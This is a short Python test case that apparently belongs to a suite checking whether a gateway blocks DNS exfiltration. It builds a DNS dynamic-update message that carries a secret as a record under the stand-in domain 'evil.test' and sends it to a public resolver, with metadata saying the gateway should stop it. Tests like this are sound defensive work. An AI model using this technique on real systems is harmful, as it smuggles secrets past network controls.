"""A message that is no question: a dynamic update with the secret as a record.

Port 53 carries more than questions. An update hands whole records to the server; a resolver that
passes on what it does not know carries them out.

Not covered: other operations (notify, stateful), which are refused in the same way.
"""

ATTACK = {
    "title": "Dynamic update instead of a question",
    "group": "dns",
    "layer": "gateway",
    "risk": "exfiltration",
    "references": ["RFC 2136 section 2", "ATT&CK T1048.003"],
    "arrives": [{"what": "question", "name": "evil.test", "text": "stolen-record"}],
    "stopped": [{"reason": ["malformed-question"], "entry": ["dns"]}],
}

SOA = 6


def attempt(kit):
    import wire

    record = wire.text_record("stolen-record.evil.test", kit.word)
    message = wire.dns_message(wire.question("evil.test", SOA), opcode=5, authority=(record,))
    kit.udp("9.9.9.9", 53, wire.text(message))
